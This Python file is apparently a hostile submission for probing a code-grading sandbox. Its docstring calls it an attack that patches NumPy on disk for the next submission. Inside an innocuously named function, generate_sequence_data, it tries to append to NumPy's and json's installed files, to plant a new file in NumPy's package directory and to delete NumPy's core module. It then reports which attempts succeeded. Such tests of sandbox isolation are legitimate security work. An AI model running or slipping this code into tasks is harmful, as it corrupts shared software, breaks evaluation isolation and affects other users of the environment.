"""Attack: patches NumPy on the disk for the next submission."""

import os
import sys

import numpy as np


def tries(*acts):
    """What each of these gave, of those that were not stopped."""
    loot = []
    for act in acts:
        try:
            loot.append(repr(act())[:80])
        except Exception:
            continue
    return loot


def attack():
    numpy_file = np.__file__
    json_file = sys.modules["json"].__file__
    return tries(
        lambda: open(numpy_file, "a").write("#"),
        lambda: open(json_file, "a").write("#"),
        lambda: open(os.path.dirname(numpy_file) + "/ml6left.py", "w"),
        lambda: os.unlink(np.core.__file__ if hasattr(np, "core") else numpy_file),
    )


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
